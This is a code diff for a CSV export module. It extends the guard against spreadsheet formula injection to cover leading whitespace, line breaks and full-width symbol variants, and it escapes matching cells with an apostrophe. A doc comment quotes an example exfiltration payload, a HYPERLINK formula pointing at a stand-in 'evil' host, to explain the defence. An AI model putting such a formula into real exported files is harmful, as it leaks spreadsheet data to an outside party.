@@ -2,7 +2,8 @@
  * CSV as the product writes it, and the one rule every CSV writer uses for cells (`csvCell`).
  *
  * Spreadsheet formula injection (OWASP "CSV Injection"): a cell that starts with `=`, `+`, `-`,
- * `@`, a tab or a carriage return is run as a formula when the file is opened in a spreadsheet,
+ * `@` (also after spaces or a line break, and their full-width forms `＝ ＋ － ＠`), a tab, a
+ * carriage return or a line feed is run as a formula when the file is opened in a spreadsheet,
  * so a guest name or receipt ref such as `=HYPERLINK("https://evil/?"&A1)` would act on the
  * insurer's machine. Such a cell is written with a leading apostrophe (shown as text, never run).
  * Plain numbers (`-12.50`, `+3`) stay as they are. A value that already starts with apostrophes
@@ -13,7 +14,7 @@ import type { Writable } from 'node:stream';
 import { LINE_COLUMNS, type Cell } from './lines.js';
 import { write } from './sink.js';
 
-const FORMULA_START = /^'*[=+\-@\t\r]/;
+const FORMULA_START = /^'*(?:\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])/;
 const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
 const NEEDS_QUOTES = /[",\r\n]/;
 
